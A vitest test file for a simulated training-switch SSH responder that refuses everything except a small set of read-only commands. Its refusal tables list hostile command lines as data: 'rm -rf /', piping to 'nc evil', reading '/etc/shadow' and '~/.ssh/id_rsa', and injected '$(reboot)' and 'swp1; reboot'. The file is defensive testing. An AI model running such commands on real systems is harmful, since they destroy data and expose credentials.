import { describe, expect, it } from 'vitest';
import { TRAINING_ESTATE, type SwitchPlan } from './estate-definition';
import { answerCommand, ago, parseCommandLine, timespan, type SshDeviceState } from './ssh-commands';
import { EstateSimulation } from './simulation';

const START = Date.UTC(2025, 2, 3, 9, 0, 0);
const MINUTE = 60_000;

function switchA(): { device: SshDeviceState; simulation: EstateSimulation } {
  const simulation = new EstateSimulation(TRAINING_ESTATE, START, 7);
  const plan = TRAINING_ESTATE.zones[0]!.switches[0] as SwitchPlan;
  return {
    simulation,
    device: {
      plan,
      hostname: plan.id,
      zoneId: 'zone-a',
      bootedAt: START,
      zoneCondition: (now) => simulation.zoneCondition('zone-a', now),
      octets: (ifIndex, direction, now) => simulation.octets(plan.id, ifIndex, direction, now),
    },
  };
}

/** The command lines Vigie's templates send (posixCommandLine of their argv). */
const TEMPLATE_LINES = {
  uptime: 'uptime',
  diskUsage: 'df -P',
  interfaceCounters: 'cat /proc/net/dev',
  interfaceStats: (ifname: string) => `ip -s link show dev ${ifname}`,
  serviceStatus: (unit: string) => `systemctl status --no-pager --full --lines 20 -- ${unit}`,
};

describe('parseCommandLine', () => {
  it('splits plain words and single-quoted words as sh does', () => {
    expect(parseCommandLine('ip -s link show dev swp1')).toEqual({
      ok: true,
      argv: ['ip', '-s', 'link', 'show', 'dev', 'swp1'],
    });
    expect(parseCommandLine(`echo 'a b'  'it'\\''s' x'y'z`)).toEqual({
      ok: true,
      argv: ['echo', 'a b', "it's", 'xyz'],
    });
    expect(parseCommandLine('echo a\\ b\\;c')).toEqual({ ok: true, argv: ['echo', 'a b;c'] });
    expect(parseCommandLine(`printf '$(reboot); rm -rf /'`)).toEqual({
      ok: true,
      argv: ['printf', '$(reboot); rm -rf /'],
    });
  });

  it.each([
    ['a list', 'uptime; rm -rf /'],
    ['an and-list', 'uptime && reboot'],
    ['a pipe', 'cat /proc/net/dev | nc evil 1'],
    ['a command substitution', 'ip -s link show dev $(reboot)'],
    ['backticks', 'ip -s link show dev `reboot`'],
    ['a variable', 'echo $HOME'],
    ['a redirection', 'uptime > /etc/motd'],
    ['a glob', 'cat /proc/net/*'],
    ['a comment', 'uptime # hi'],
    ['double quotes', 'echo "x"'],
    ['a line continuation', 'uptime \\\nreboot'],
    ['a trailing backslash', 'uptime \\'],
    ['a newline', 'uptime\nreboot'],
    ['a NUL', 'uptime\0'],
    ['an assignment', 'PATH=/tmp uptime'],
    ['a tilde', 'cat ~/.ssh/id_rsa'],
    ['an unterminated quote', "echo 'x"],
    ['a control character inside quotes', "echo 'a\u001bb'"],
    ['nothing', '   '],
    ['a very long line', `echo ${'a'.repeat(5000)}`],
  ])('refuses %s', (_what, line) => {
    expect(parseCommandLine(line).ok).toBe(false);
  });
});

describe('answerCommand: what a training switch answers', () => {
  it('answers uptime in procps format, up since the estate started', () => {
    const { device } = switchA();
    const r = answerCommand(device, TEMPLATE_LINES.uptime, START + 3 * 3_600_000 + 7 * MINUTE);
    expect(r.exitCode).toBe(0);
    expect(r.stdout).toMatch(
      /^ 12:07:00 up {2}3:07, {2}0 users, {2}load average: \d+\.\d\d, \d+\.\d\d, \d+\.\d\d\n$/,
    );
    expect(answerCommand(device, 'uptime', START + 5 * MINUTE).stdout).toContain(' up 5 min,  0 users,');
    expect(answerCommand(device, 'uptime', START + 49 * 3_600_000).stdout).toContain(' up 2 days,  1:00,');
  });

  it('raises the load while the zone is on battery, and lets it decay after', () => {
    const { device, simulation } = switchA();
    const load = (at: number): number[] =>
      (/load average: (.*)$/m.exec(answerCommand(device, 'uptime', at).stdout)?.[1] ?? '')
        .split(', ')
        .map(Number);
    const calm = load(START + 10 * MINUTE);
    expect(calm[0]).toBeLessThan(1);
    simulation.setZonePower('zone-a', 'battery', START + 10 * MINUTE);
    const busy = load(START + 20 * MINUTE);
    expect(busy[0]).toBeGreaterThan(2);
    expect(busy[0]).toBeGreaterThan(busy[2]!);
    simulation.setZonePower('zone-a', 'mains', START + 20 * MINUTE);
    expect(load(START + 40 * MINUTE)[0]).toBeLessThan(1);
  });

  it('answers df -P with a POSIX header, 1024-blocks and capacities rounded up', () => {
    const { device } = switchA();
    const r = answerCommand(device, TEMPLATE_LINES.diskUsage, START + MINUTE);
    expect(r.exitCode).toBe(0);
    const [header, ...rows] = r.stdout.trimEnd().split('\n');
    expect(header).toMatch(/^Filesystem +1024-blocks +Used +Available +Capacity +Mounted on$/);
    const root = rows.find((l) => l.endsWith(' /'));
    const [, size, used, available, capacity] =
      /^\S+\s+(\d+)\s+(\d+)\s+(\d+)\s+(\d+)%\s+\/$/.exec(root ?? '') ?? [];
    expect(Number(capacity)).toBe(Math.ceil((Number(used) * 100) / (Number(used) + Number(available))));
    expect(Number(size)).toBeGreaterThan(Number(used) + Number(available));
  });

  it('fills /var/log while the zone is on battery (the log shipper is down), never past full', () => {
    const { device, simulation } = switchA();
    const varLog = (at: number): number =>
      Number(/(\d+)%\s+\/var\/log$/m.exec(answerCommand(device, 'df -P', at).stdout)?.[1]);
    const before = varLog(START + MINUTE);
    simulation.setZonePower('zone-a', 'battery', START + MINUTE);
    expect(varLog(START + 11 * MINUTE)).toBeGreaterThan(before + 5);
    expect(varLog(START + 1000 * MINUTE)).toBeLessThanOrEqual(100);
  });

  it('answers /proc/net/dev with 16 columns per interface and exact 64-bit counters that grow', () => {
    const { device } = switchA();
    const rows = (at: number): Map<string, string[]> => {
      const r = answerCommand(device, TEMPLATE_LINES.interfaceCounters, at);
      expect(r.exitCode).toBe(0);
      const lines = r.stdout.trimEnd().split('\n');
      expect(lines[0]).toMatch(/\|\s*Receive\s*\|\s*Transmit/);
      return new Map(
        lines.slice(2).map((l) => {
          const [name, rest] = l.split(':');
          return [name!.trim(), rest!.trim().split(/\s+/)];
        }),
      );
    };
    const first = rows(START + MINUTE);
    expect([...first.keys()]).toEqual([
      'lo',
      'eth0',
      'swp1',
      'swp2',
      'swp3',
      'swp4',
      'swp5',
      'swp49',
      'swp50',
    ]);
    for (const columns of first.values()) expect(columns).toHaveLength(16);
    const later = rows(START + 2 * MINUTE);
    const rx = (m: Map<string, string[]>, i: string): bigint => BigInt(m.get(i)![0]!);
    expect(rx(later, 'swp49')).toBeGreaterThan(rx(first, 'swp49'));
    // Beyond 2^53: a reader going through floats would lose digits.
    expect(rx(first, 'swp49')).toBeGreaterThan(2n ** 53n);
    expect(rx(first, 'swp49')).toBe(device.octets(49, 'in', START + MINUTE));
    // The port being recabled carries nothing.
    expect(rx(later, 'swp5')).toBe(rx(first, 'swp5'));
  });

  it('answers ip -s link for a port, and "does not exist" (exit 1) for anything else', () => {
    const { device } = switchA();
    const r = answerCommand(device, TEMPLATE_LINES.interfaceStats('swp49'), START + MINUTE);
    expect(r.exitCode).toBe(0);
    expect(r.stdout).toMatch(/^\d+: swp49: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 9216 .* state UP /);
    expect(r.stdout).toContain('alias uplink inter-site interconnect');
    expect(r.stdout).toContain(String(device.octets(49, 'in', START + MINUTE)));
    expect(answerCommand(device, 'ip -s link show dev swp5', START).stdout).toContain('state DOWN');
    expect(answerCommand(device, 'ip -s link show dev lo', START).stdout).toContain('link/loopback');
    const missing = answerCommand(device, TEMPLATE_LINES.interfaceStats('eth9'), START);
    expect(missing).toEqual({ stdout: '', stderr: 'Device "eth9" does not exist.\n', exitCode: 1 });
    // A quoted word is one name, whatever it holds: nothing is run.
    const quoted = answerCommand(device, `ip -s link show dev 'swp1; reboot'`, START);
    expect(quoted.exitCode).toBe(1);
    expect(quoted.stderr).toBe('Device "swp1; reboot" does not exist.\n');
  });

  it('answers systemctl status: running units exit 0, log-shipper fails (exit 3) while the zone is on battery', () => {
    const { device, simulation } = switchA();
    const ssh = answerCommand(device, TEMPLATE_LINES.serviceStatus('ssh.service'), START + 5 * MINUTE);
    expect(ssh.exitCode).toBe(0);
    expect(ssh.stdout).toMatch(/^● ssh\.service - OpenBSD Secure Shell server\n/);
    expect(ssh.stdout).toContain('Active: active (running) since Mon 2025-03-03 09:00:06 UTC; 4min 54s ago');
    // systemctl adds `.service` to a bare name.
    expect(answerCommand(device, TEMPLATE_LINES.serviceStatus('frr'), START).stdout).toContain('frr.service');
    const shipper = (at: number) => answerCommand(device, TEMPLATE_LINES.serviceStatus('log-shipper'), at);
    expect(shipper(START + MINUTE).exitCode).toBe(0);
    simulation.setZonePower('zone-a', 'battery', START + 2 * MINUTE);
    const failed = shipper(START + 4 * MINUTE);
    expect(failed.exitCode).toBe(3);
    expect(failed.stdout).toContain(
      'Active: failed (Result: exit-code) since Mon 2025-03-03 09:02:00 UTC; 2min 0s ago',
    );
    expect(failed.stdout).toContain('logs.zone-a.internal');
    expect(failed.stdout.split('\n\n')[1]!.trimEnd().split('\n').length).toBeLessThanOrEqual(20);
    simulation.setZonePower('zone-a', 'mains', START + 5 * MINUTE);
    expect(shipper(START + 6 * MINUTE).exitCode).toBe(0);
    const unknown = answerCommand(device, TEMPLATE_LINES.serviceStatus('nginx'), START);
    expect(unknown).toEqual({ stdout: '', stderr: 'Unit nginx.service could not be found.\n', exitCode: 4 });
  });

  it.each([
    ['an injection after an allowed command', 'uptime; cat /etc/shadow'],
    ['a command substitution in a parameter', 'ip -s link show dev $(reboot)'],
    ['another program', 'reboot'],
    ['an allowed program with other options', 'df -h'],
    ['an allowed program on another file', 'cat /etc/shadow'],
    ['systemctl without the end of options', 'systemctl status --no-pager --full --lines 20 ssh'],
    ['a mutating systemctl verb', 'systemctl restart --no-pager --full --lines 20 -- ssh'],
    ['an extra word', 'uptime -p'],
    ['an empty line', ''],
  ])('refuses %s with exit 127 and one stderr line', (_what, line) => {
    const { device } = switchA();
    const r = answerCommand(device, line, START);
    expect(r.exitCode).toBe(127);
    expect(r.stdout).toBe('');
    expect(r.stderr).toMatch(/^estate-sh: .*refused.*\n$/);
    expect(r.stderr.split('\n')).toHaveLength(2);
  });

  it('shows a refused line safely: quoted, without its control characters, cut', () => {
    const { device } = switchA();
    const r = answerCommand(device, `uptime\n\u001b[2J${'x'.repeat(300)}`, START);
    expect(r.stderr).not.toContain('\u001b');
    expect(r.stderr).toContain('\\n');
    expect(r.stderr.length).toBeLessThan(300);
  });
});

describe('systemd time spans', () => {
  it('formats durations and relative times as systemctl does', () => {
    expect(timespan(0)).toBe('0');
    expect(timespan(3_723_000)).toBe('1h 2min 3s');
    expect(ago(12_000)).toBe('12s ago');
    expect(ago(125_000)).toBe('2min 5s ago');
    expect(ago(7 * MINUTE)).toBe('7min ago');
    expect(ago(2 * 3_600_000 + 5 * MINUTE)).toBe('2h 5min ago');
    expect(ago(27 * 3_600_000)).toBe('1 day 3h ago');
    expect(ago(3 * 86_400_000)).toBe('3 days ago');
    expect(ago(16 * 86_400_000)).toBe('2 weeks 2 days ago');
  });
});
